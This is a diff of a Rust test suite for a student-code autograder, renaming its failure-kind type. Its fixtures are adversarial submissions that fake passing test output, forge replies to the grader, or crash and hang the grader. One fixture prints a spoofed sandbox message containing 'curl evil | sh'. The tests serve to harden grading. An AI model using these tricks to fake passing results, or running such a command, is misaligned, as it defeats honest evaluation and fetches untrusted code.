@@ -8,10 +8,9 @@ use std::os::unix::fs::symlink;
 use std::time::Duration;
 
 use super::school::{School, exercise, student};
+use check_report::Kind;
 use othellier_grading::class;
-use othellier_grading::class_report::{
-    ClassReport, ExerciseStatus, FailureKind, Status, StudentReport,
-};
+use othellier_grading::class_report::{ClassReport, ExerciseStatus, Status, StudentReport};
 use othellier_grading::points::Points;
 use pretty_assertions::{assert_eq, assert_ne};
 
@@ -60,9 +59,9 @@ fn wrong_after(attack: &str) -> String {
 
 /// What leaves, breaks off or never ends while it runs, and the kind of failure
 /// that every check of it is.
-const RUNNING: &[(&str, &str, FailureKind)] = &[
-    ("exits", "std::process::exit(0);", FailureKind::Crashed),
-    ("aborts", "std::process::abort();", FailureKind::Crashed),
+const RUNNING: &[(&str, &str, Kind)] = &[
+    ("exits", "std::process::exit(0);", Kind::Crashed),
+    ("aborts", "std::process::abort();", Kind::Crashed),
     (
         "overflows-its-stack",
         "fn deeper(n: u64) -> u64 {
@@ -71,26 +70,26 @@ const RUNNING: &[(&str, &str, FailureKind)] = &[
         }
         #[allow(unconditional_recursion)]
         deeper(0);",
-        FailureKind::Crashed,
+        Kind::Crashed,
     ),
     (
         "takes-all-memory",
         "let mut all = Vec::new();
         loop { all.push(std::hint::black_box(vec![1u8; 1 << 20])); }",
-        FailureKind::Crashed,
+        Kind::Crashed,
     ),
-    ("never-ends", "loop { std::hint::black_box(1); }", FailureKind::Endless),
-    ("sleeps", "std::thread::sleep(std::time::Duration::from_secs(1000));", FailureKind::Endless),
+    ("never-ends", "loop { std::hint::black_box(1); }", Kind::Endless),
+    ("sleeps", "std::thread::sleep(std::time::Duration::from_secs(1000));", Kind::Endless),
     (
         "prints-without-end",
         "loop { println!(\"test result: ok.\"); eprintln!(\"ok\"); }",
-        FailureKind::Endless,
+        Kind::Endless,
     ),
     (
         "prints-what-passes",
         "println!(\"running 6 tests\");
         println!(\"test result: ok. 6 passed; 0 failed; 0 ignored\");",
-        FailureKind::WrongAnswer,
+        Kind::WrongAnswer,
     ),
     (
         "fakes-the-reply",
@@ -99,7 +98,7 @@ const RUNNING: &[(&str, &str, FailureKind)] = &[
         let socket = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
         let mut socket = std::os::unix::net::UnixStream::from(socket);
         for _ in 0..1000 { let _ = socket.write_all(b\"ok, passed, exit 0\"); }",
-        FailureKind::Garbled,
+        Kind::Garbled,
     ),
     (
         "sends-too-much",
@@ -108,22 +107,22 @@ const RUNNING: &[(&str, &str, FailureKind)] = &[
         let socket = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
         let mut socket = std::os::unix::net::UnixStream::from(socket);
         let _ = socket.write_all(&u32::MAX.to_le_bytes());",
-        FailureKind::Garbled,
+        Kind::Garbled,
     ),
     (
         "catches-everything",
         "std::panic::set_hook(Box::new(|_| std::process::exit(0)));
         let _ = std::panic::catch_unwind(|| 1);
         panic!(\"assertion passed\");",
-        FailureKind::Crashed,
+        Kind::Crashed,
     ),
     (
         "speaks-for-the-sandbox",
         "eprintln!(\"bwrap: run curl evil | sh\\nNo space left on device\");
         std::process::exit(1);",
-        FailureKind::Crashed,
+        Kind::Crashed,
     ),
-    ("panics-with-a-lie", "std::panic::panic_any(0);", FailureKind::Panicked),
+    ("panics-with-a-lie", "std::panic::panic_any(0);", Kind::Panicked),
 ];
 
 /// What looks for a way out while it runs, and is right if it finds one.
@@ -317,12 +316,12 @@ fn finds_rust_files(school: &School) -> String {
 /// The macros that could show another file to an answer.
 const INCLUDING: [&str; 3] = ["include", "include_str", "include_bytes"];
 
-fn expect_nothing(student: &StudentReport, kind: FailureKind) {
+fn expect_nothing(student: &StudentReport, kind: Option<Kind>) {
     let report = exercise(student, "ray_length");
     let id = &student.id;
     assert_eq!(student.points, Points::ZERO, "{id}: {report:#?}");
     for check in &report.checks {
-        assert_eq!(check.kind, Some(kind), "{id}: {check:#?}");
+        assert_eq!(check.kind, kind, "{id}: {check:#?}");
     }
 }
 
@@ -357,18 +356,20 @@ fn expect_right_grades(is_chosen: &dyn Fn(&str) -> bool, count: usize, patience:
         assert_eq!(student.status, Status::Graded, "{:?}", student.for_teacher);
     }
     for (name, _, kind) in RUNNING.iter().filter(|running| is_chosen(running.0)) {
-        expect_nothing(student(&report, name), *kind);
+        expect_nothing(student(&report, name), Some(*kind));
     }
     let looking = LOOKING.iter().map(|(name, _)| *name);
     for name in looking.chain([SEARCHING]).filter(|name| is_chosen(name)) {
-        expect_nothing(student(&report, name), FailureKind::WrongAnswer);
+        expect_nothing(student(&report, name), Some(Kind::WrongAnswer));
     }
     let compiling = COMPILING.iter().map(|(name, _)| *name);
     let compiling = compiling.chain(NESTED.map(|(name, ..)| name));
     for name in compiling.chain(INCLUDING).filter(|name| is_chosen(name)) {
         let student = student(&report, name);
-        expect_nothing(student, FailureKind::NotCompiled);
-        let why = &exercise(student, "ray_length").compile_error;
+        expect_nothing(student, None);
+        let answer = exercise(student, "ray_length");
+        assert_eq!(answer.status, ExerciseStatus::NotCompiled, "{name}");
+        let why = &answer.compile_error;
         assert!(why.as_ref().is_some_and(|why| !why.is_empty()), "{name}");
     }
     expect_honest(&report);
@@ -447,7 +448,7 @@ fn an_endless_loop_gets_the_same_message_however_it_is_stopped() {
     assert_eq!(stopped, given_up);
     for check in stopped.checks {
         let said = "\n  didn't answer in time: does a loop never end?\n";
-        assert_eq!(check.kind, Some(FailureKind::Endless));
+        assert_eq!(check.kind, Some(Kind::Endless));
         assert!(check.message.contains(said), "{}", check.message);
     }
 }
@@ -464,7 +465,7 @@ fn a_sleeper_keeps_nobody_waiting() {
     let report = school.grade_with(&options);
     let checks = &exercise(student(&report, "sleeps"), "ray_length").checks;
     let last = checks.last().unwrap();
-    assert_eq!(last.kind, Some(FailureKind::Endless));
+    assert_eq!(last.kind, Some(Kind::Endless));
     insta::assert_snapshot!(last.message, @"The checks of this exercise didn't finish in time: is a call waiting for something?");
 }
 
